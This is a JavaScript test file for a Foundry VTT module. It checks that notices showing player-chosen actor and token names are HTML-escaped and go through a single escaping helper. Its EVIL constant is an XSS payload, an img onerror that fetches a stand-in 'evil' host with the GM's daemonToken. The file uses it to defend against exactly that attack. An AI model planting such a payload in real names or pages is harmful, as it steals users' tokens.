// Notices carry names players choose (actor and token names) and the companion's words,
// which name them too. Foundry v12 renders a notice's text as HTML (v13 cleans it as
// untrusted input), so a player who names their token `<img src=x onerror=…>` would run
// script in the GM's browser, which holds the companion's token. Every notice goes
// through one helper (service.js `notify`) that escapes its text: the name reads as
// typed, and no markup reaches Foundry (docs/FOUNDRY.md, "Settings": the token stays
// in the GM's browser).
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, readdirSync } from "node:fs";
import path from "node:path";
import { MODULE_DIR } from "../test-support/fakes.mjs";
import { makeTable } from "../test-support/scenario.mjs";

const EVIL = `<img src=x onerror="fetch('//evil/?t='+game.settings.get('mindscape','daemonToken'))">`;

/** Every notice a client was given, as Foundry was given it (its HTML). */
const given = (client) => client.notes.html;

test("an owner's markup actor name reaches the GM's profile notice as text, never as markup", async () => {
  const t = makeTable({ dialogs: { gm: { profileDialog: { kind: "psionicist", psp: "30" } } } });
  t.actors.ulcen.name = EVIL;
  assert.ok(await t.clients.gm.svc.configureActor(t.actors.ulcen.uuid));
  assert.ok(given(t.clients.gm).length > 0);
  assert.ok(given(t.clients.gm).every((m) => !m.includes("<img")), given(t.clients.gm).join("\n"));
  assert.ok(t.clients.gm.notes.info.some((m) => m.includes(EVIL)), "the name reads as it was typed");
});

test("a refusal naming an actor (a player's own error notice) is escaped too", async () => {
  const t = makeTable();
  t.actors.ulcen.name = EVIL;
  assert.equal(await t.clients.p2.svc.configureActor(t.actors.ulcen.uuid), null);
  assert.ok(t.clients.p2.notes.error.some((m) => m.includes(EVIL)));
  assert.ok(given(t.clients.p2).every((m) => !m.includes("<img")));
});

test("a player's markup token name in an attack the GM's browser refuses reaches the GM's notice as text", async () => {
  const t = makeTable();
  t.tokens.ulcenToken.name = EVIL;
  await t.clients.p1.svc.startAttack({ attackerUuid: t.tokens.ulcenToken.uuid, targetUuids: [t.tokens.ulcenToken.uuid], attack: { mode: "mind-thrust", multiplier: 1, range: "short" } });
  assert.ok(t.clients.gm.notes.error.some((m) => m.includes(EVIL)));
  assert.ok([...given(t.clients.gm), ...given(t.clients.p1)].every((m) => !m.includes("<img")));
});

test("no script shows a notice but through the one escaping helper", () => {
  const dir = path.join(MODULE_DIR, "scripts");
  const direct = readdirSync(dir).flatMap((file) => readFileSync(path.join(dir, file), "utf8").split("\n")
    .map((line, i) => ({ where: `${file}:${i + 1}`, line }))
    .filter(({ line }) => /notifications\s*\?*\.?\s*(\?\.)?\s*(\[|info|warn|error|notify)/.test(line)));
  assert.deepEqual(direct.map((d) => d.where), ["service.js:" + (readFileSync(path.join(dir, "service.js"), "utf8").split("\n").findIndex((l) => l.includes("notifications?.[kind]")) + 1)]);
});
